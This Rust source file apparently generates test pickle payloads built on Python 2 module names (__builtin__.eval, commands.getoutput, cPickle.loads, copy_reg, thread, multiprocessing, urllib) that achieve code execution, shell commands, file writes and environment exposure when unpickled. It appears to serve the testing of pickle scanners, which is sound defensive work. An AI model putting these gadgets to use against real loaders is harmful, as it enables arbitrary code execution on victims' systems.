//! Names of Python 2, which `fix_imports` maps to those of Python 3 at protocols 0 to 2.

use super::collector::{Collector, Spot};
use super::{Class, Harm};
use crate::args;
use crate::asm::Asm;
use crate::value::{Value, call, g, list, tuple};

pub(super) fn collect(all: &mut Collector<'_>) {
    all.class(Class::Python2);
    let url = "http://127.0.0.1:9/";
    for name in ["eval", "exec"] {
        all.add_in(
            0,
            &format!("py2-__builtin__.{name}"),
            "runs Python code",
            |k| call(g("__builtin__", name), args![&k.py]),
        );
    }
    all.add_in(
        1,
        "py2-__builtin__.getattr",
        "finds a function of a module",
        |k| {
            let os = call(g("__builtin__", "__import__"), args!["os"]);
            call(
                call(g("__builtin__", "getattr"), args![os, "system"]),
                args![&k.sh],
            )
        },
    );
    all.add_in(2, "py2-__builtin__.open", "makes a file", |k| {
        call(g("__builtin__", "open"), args![&k.marker, "w"])
    });
    all.add_in(0, "py2-__builtin__.reduce", "is functools.reduce", |k| {
        let path = list(args![&k.victim, &k.marker]);
        call(g("__builtin__", "reduce"), vec![g("os", "link"), path])
    });
    all.add_in(2, "py2-__builtin__.inst", "INST of eval", |k| {
        Asm::new()
            .mark()
            .binunicode(&k.py)
            .inst("__builtin__", "eval")
            .into()
    });
    for name in ["getoutput", "getstatusoutput"] {
        all.add_in(
            2,
            &format!("py2-commands.{name}"),
            "runs a shell command",
            |k| call(g("commands", name), args![&k.sh]),
        );
    }
    let nested = |k: &Spot| k.system().pickle(2);
    all.add_in(
        2,
        "py2-cPickle.loads",
        "loads a pickle in the pickle",
        |k| call(g("cPickle", "loads"), args![nested(k)]),
    );
    all.add_in(
        2,
        "py2-cStringIO",
        "loads a pickle from bytes as a file",
        |k| {
            let file = call(g("io", "BytesIO"), args![nested(k)]);
            call(g("cPickle", "load"), vec![file])
        },
    );
    all.add_in(1, "py2-thread.start_new_thread", "calls in a thread", |k| {
        let args = vec![g("posix", "system"), tuple(args![&k.sh])];
        let start = call(g("thread", "start_new_thread"), args);
        let wait = call(g("time", "sleep"), vec![Value::Float(0.3)]);
        crate::value::steps(vec![start, wait])
    });
    all.add_in(
        2,
        "py2-copy_reg.add_extension",
        "registers an extension, and fetches it",
        |k| {
            let add = call(g("copy_reg", "add_extension"), args!["os", "system", 33]);
            let system = Asm::new().then(&add.asm(2)).pop().ext1(33);
            call(system.into(), args![&k.sh])
        },
    );
    all.add_in(
        2,
        "py2-copy_reg._reconstructor",
        "makes any class without its constructor",
        |_| {
            let rebuilt = args![
                g("subprocess", "Popen"),
                g("__builtin__", "object"),
                Value::None
            ];
            call(g("copy_reg", "_reconstructor"), rebuilt)
        },
    )
    .state("type(loaded).__name__ == 'Popen'");
    for (name, module, function) in [
        ("py2-urllib2.urlopen", "urllib2", "urlopen"),
        ("py2-urllib.urlopen", "urllib", "urlopen"),
        ("py2-urllib.urlretrieve", "urllib", "urlretrieve"),
    ] {
        all.add_in(0, name, "fetches an address", |_| {
            call(g(module, function), args![url])
        })
        .harm(Harm::Raises("URLError"));
    }
    all.add_in(0, "py2-httplib.HTTPConnection", "sends a request", |_| {
        let connection = call(g("httplib", "HTTPConnection"), args!["127.0.0.1", 9]);
        crate::value::method(connection, "connect", vec![])
    })
    .harm(Harm::Raises("ConnectionRefusedError"));
    all.add_in(
        0,
        "py2-exceptions.SystemExit",
        "is raised by what throws",
        |_| {
            let exit = call(g("exceptions", "SystemExit"), args![1]);
            let future = crate::value::keep(1, call(g("concurrent.futures", "Future"), vec![]));
            let set = crate::value::method(crate::value::kept(1), "set_exception", vec![exit]);
            let ask = crate::value::method(crate::value::kept(1), "result", vec![]);
            // The memo has opcodes of protocol 1 only.
            crate::value::steps(vec![future, set, ask])
        },
    )
    .harm(Harm::Raises("SystemExit"));
    all.add_in(2, "py2-itertools.imap", "is builtins.map", |k| {
        let map = call(
            g("itertools", "imap"),
            args![g("posix", "system"), list(args![&k.sh])],
        );
        call(g("__builtin__", "tuple"), vec![map])
    });
    all.add_in(2, "py2-itertools.ifilter", "is builtins.filter", |k| {
        let map = call(
            g("itertools", "ifilter"),
            args![g("posix", "system"), list(args![&k.sh])],
        );
        call(g("__builtin__", "list"), vec![map])
    });
    all.add_in(2, "py2-dumbdbm.open", "makes a database", |k| {
        call(g("dumbdbm", "open"), args![&k.marker, "n"])
    })
    .marker(|k| format!("{}.dat", k.marker));
    all.add_in(2, "py2-SocketServer.TCPServer", "listens", |_| {
        let address = tuple(args!["127.0.0.1", 0]);
        call(
            g("SocketServer", "TCPServer"),
            args![address, g("__builtin__", "eval")],
        )
    })
    .state("loaded.server_address[1] > 0");
    all.add_in(
        2,
        "py2-multiprocessing.process.Process",
        "runs a call",
        |k| {
            let none = || Value::None;
            let target = args![none(), g("posix", "system"), none(), tuple(args![&k.sh])];
            let process = call(g("multiprocessing.process", "Process"), target);
            crate::value::method(process, "run", vec![])
        },
    );
    all.add_in(
        2,
        "py2-UserDict",
        "is a collections.UserDict, with another state",
        |_| {
            let made = call(g("UserDict", "UserDict"), vec![]);
            crate::value::build(made, super::made::attribute("data", g("os", "environ")))
        },
    )
    .state("loaded.data is sys.modules['os'].environ");
}
